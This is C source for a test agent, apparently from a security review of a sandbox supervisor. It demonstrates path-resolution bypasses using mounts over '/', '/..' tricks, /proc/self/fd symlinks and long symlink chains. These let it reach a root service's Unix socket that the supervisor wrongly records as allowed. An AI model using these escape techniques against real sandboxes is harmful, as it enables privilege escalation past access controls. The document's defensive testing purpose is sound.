/* ha55-agent: hostile review h-attack55's agent (see ha55-host.sh).
 *   ha55-agent DIR MODE
 * DIR is a host directory holding a root service's socket s.sock (read-only
 * in the run: unix-peer is due for any name that reaches it).
 * MODE rootover: open DIR (O_PATH, descriptor F); unshare user+mount
 *   namespaces; mount a tmpfs T over "/" (the root stays the directory
 *   under it: "/x" is still looked up in the old root, but "/.." is the
 *   root's ".." and steps into the mount on it, T); symlink "/../x" ->
 *   "/proc" (in T); connect "/../x/self/fd/F/s.sock". The kernel: /.. is T,
 *   x leads to the agent's /proc, self/fd/F to DIR: the service. Our
 *   lookup (RESOLVE_IN_ROOT) agrees up to "self", which is nobody for the
 *   supervisor in the agent's /proc: ENOENT. walk_as_kernel keeps ".." at
 *   the root without stepping into T, looks "x" up in the old root: ENOENT
 *   too, "the walk ends the same way": answered ENOENT, recorded allowed.
 * MODE rootover-ctl: control, the same name without the mount over "/"
 *   (x made in /dev/shm, named "/dev/shm/ha55x/self/fd/F/s.sock").
 * MODE rootprot: fs.protected_symlinks=1. /dev/shm/ha55r (1777) holds
 *   "l" -> "/nothing" owned by uid 2000 and a bind of DIR at h; unshare,
 *   chroot /dev/shm/ha55r, mount a tmpfs T (1777) over "/", "/../l" ->
 *   "/h/s.sock" owned by 1000 (setresuid 1000); connect "/../l". The
 *   kernel follows its own link in T to the service; ours (fsuid 0) is
 *   refused EACCES; the walk stays in the old root, finds uid 2000's l,
 *   refused for 1000 too: EACCES answered, recorded allowed.
 * MODE rootfound: the same, but the old root's l (-> "/own.sock", a listener
 *   of the run's own there) is uid 1000's too: the walk follows it and
 *   FOUND the run's listener, judged "local" and connected to, where the
 *   kernel reaches the service.
 * MODE cost: 40 links of ~4 kB of "d/.." to a missing name, timed (see
 *   cost() below).
 * MODE up: the working directory in T (chdir "/.."), connect "../x/..."
 *   (".." from T's root: the kernel stays in T, the walk climbs out). */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <linux/mount.h>
#include <sys/mount.h>
#include <sys/syscall.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <time.h>
#include <unistd.h>

static int once(const char *name)
{
	struct sockaddr_un a = {.sun_family = AF_UNIX};
	int fd = socket(AF_UNIX, SOCK_STREAM, 0), rc, err;

	snprintf(a.sun_path, sizeof(a.sun_path), "%s", name);
	rc = connect(fd, (struct sockaddr *)&a, sizeof(a));
	err = errno;
	if (rc == 0 && write(fd, "ha55-secret\n", 12) != 12)
		rc = -1;
	fprintf(stderr, "ha55 connect %s: %s\n", name,
		rc == 0 ? "connected" : strerrorname_np(err));
	close(fd);
	return rc;
}

static double now(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

/* MODE cost: /dev/shm/ha55c/l0 .. l39, each "/dev/shm/ha55c/d/../d/../..."
 * (about 4 kB) naming the next, the last a missing entry: 40 links, the
 * kernel's most, each about 1,600 components. The kernel's own stat of
 * l0, then connect, timed (ENOENT both). */
static int cost(void)
{
	char t[4096], l[64], next[64];
	struct stat st;
	double t0, t1, t2;
	int n, rc;

	mkdir("/dev/shm/ha55c", 0755);
	mkdir("/dev/shm/ha55c/d", 0755);
	for (int i = 0; i < 40; i++) {
		snprintf(l, sizeof(l), "/dev/shm/ha55c/l%d", i);
		if (i < 39)
			snprintf(next, sizeof(next), "l%d", i + 1);
		else
			strcpy(next, "missing");
		n = snprintf(t, sizeof(t), "/dev/shm/ha55c");
		while (n + 5 + 16 < 4000)
			n += snprintf(t + n, sizeof(t) - (size_t)n, "/d/..");
		snprintf(t + n, sizeof(t) - (size_t)n, "/%s", next);
		unlink(l);
		if (symlink(t, l) != 0) {
			perror("ha55 symlink");
			return 2;
		}
	}
	t0 = now();
	rc = stat("/dev/shm/ha55c/l0", &st);
	t1 = now();
	fprintf(stderr, "ha55 cost stat: %s %.4f s\n", rc == 0 ? "found" : strerrorname_np(errno),
		t1 - t0);
	once("/dev/shm/ha55c/l0");
	t2 = now();
	fprintf(stderr, "ha55 cost connect: %.4f s\n", t2 - t1);
	return 0;
}

int main(int argc, char **argv)
{
	char name[108];
	const char *mode;
	int f;

	if (argc < 3)
		return 2;
	mode = argv[2];
	f = open(argv[1], O_PATH | O_DIRECTORY);
	if (f < 0) {
		perror("ha55 open");
		return 2;
	}
	if (strcmp(mode, "cost") == 0)
		return cost();
	if (strcmp(mode, "rootover-ctl") == 0) {
		unlink("/dev/shm/ha55x");
		if (symlink("/proc", "/dev/shm/ha55x") != 0)
			perror("ha55 symlink");
		snprintf(name, sizeof(name), "/dev/shm/ha55x/self/fd/%d/s.sock", f);
		return once(name) != 0;
	}
	if (strcmp(mode, "rootover") == 0 || strcmp(mode, "up") == 0) {
		/* T: a directory of the run's own, bound over "/" (made before
		 * the user namespace, whose ids stay unmapped). */
		mkdir("/dev/shm/ha55t", 0755);
		unlink("/dev/shm/ha55t/x");
		if (symlink("/proc", "/dev/shm/ha55t/x") != 0)
			perror("ha55 symlink");
		if (unshare(CLONE_NEWUSER | CLONE_NEWNS) != 0) {
			perror("ha55 unshare");
			return 2;
		}
		if (mount("/dev/shm/ha55t", "/", NULL, MS_BIND, NULL) != 0) {
			perror("ha55 mount");
			return 2;
		}
		if (strcmp(mode, "up") == 0) {
			if (chdir("/..") != 0)
				perror("ha55 chdir");
			snprintf(name, sizeof(name), "../x/self/fd/%d/s.sock", f);
		} else {
			snprintf(name, sizeof(name), "/../x/self/fd/%d/s.sock", f);
		}
		return once(name) != 0;
	}
	if (strcmp(mode, "rootprot") == 0 || strcmp(mode, "rootfound") == 0) {
		int found = strcmp(mode, "rootfound") == 0, t, l = -1;

		/* The old root D (sticky, world-writable) with uid 2000's l and
		 * the service's directory bound at h; T (sticky, world-writable)
		 * with uid 1000's l -> /h/s.sock. */
		mkdir("/dev/shm/ha55r", 01777);
		chmod("/dev/shm/ha55r", 01777);
		mkdir("/dev/shm/ha55r/h", 0755);
		unlink("/dev/shm/ha55r/l");
		if (symlink(found ? "/own.sock" : "/nothing", "/dev/shm/ha55r/l") != 0 ||
		    lchown("/dev/shm/ha55r/l", found ? 1000 : 2000, found ? 1000 : 2000) != 0)
			perror("ha55 old-root link");
		if (found) {
			struct sockaddr_un a = {.sun_family = AF_UNIX};

			/* The run's own listener in the old root. */
			strcpy(a.sun_path, "/dev/shm/ha55r/own.sock");
			unlink(a.sun_path);
			l = socket(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK, 0);
			if (bind(l, (struct sockaddr *)&a, sizeof(a)) != 0 || listen(l, 4) != 0 ||
			    chmod(a.sun_path, 0777) != 0)
				perror("ha55 own listener");
		}
		mkdir("/dev/shm/ha55t", 01777);
		chmod("/dev/shm/ha55t", 01777);
		unlink("/dev/shm/ha55t/l");
		if (symlink("/h/s.sock", "/dev/shm/ha55t/l") != 0 ||
		    lchown("/dev/shm/ha55t/l", 1000, 1000) != 0)
			perror("ha55 new-root link");
		if (setresgid(1000, 1000, 1000) != 0 || setresuid(1000, 1000, 1000) != 0)
			perror("ha55 setresuid");
		if (unshare(CLONE_NEWUSER | CLONE_NEWNS) != 0) {
			perror("ha55 unshare");
			return 2;
		}
		t = (int)syscall(SYS_open_tree, AT_FDCWD, "/dev/shm/ha55t",
				 OPEN_TREE_CLONE | OPEN_TREE_CLOEXEC);
		if (t < 0 || mount(argv[1], "/dev/shm/ha55r/h", NULL, MS_BIND, NULL) != 0 ||
		    chroot("/dev/shm/ha55r") != 0 || chdir("/") != 0) {
			perror("ha55 bind/chroot");
			return 2;
		}
		if (syscall(SYS_move_mount, t, "", AT_FDCWD, "/", MOVE_MOUNT_F_EMPTY_PATH) != 0) {
			perror("ha55 move_mount");
			return 2;
		}
		if (found) {
			struct stat st, h, o;

			/* The kernel's own walk of the name, for the record. */
			if (stat("/../l", &st) == 0 && stat("/h/s.sock", &h) == 0 &&
			    stat("/own.sock", &o) == 0)
				fprintf(
				    stderr, "ha55 kernel stat /../l: %s\n",
				    st.st_ino == h.st_ino && st.st_dev == h.st_dev   ? "the service"
				    : st.st_ino == o.st_ino && st.st_dev == o.st_dev ? "own.sock"
										     : "other");
		}
		t = once("/../l");
		if (l >= 0) {
			int c = accept(l, NULL, NULL);

			fprintf(stderr, "ha55 own listener: %s\n",
				c >= 0 ? "reached" : "not reached");
		}
		return t != 0;
	}
	return 2;
}
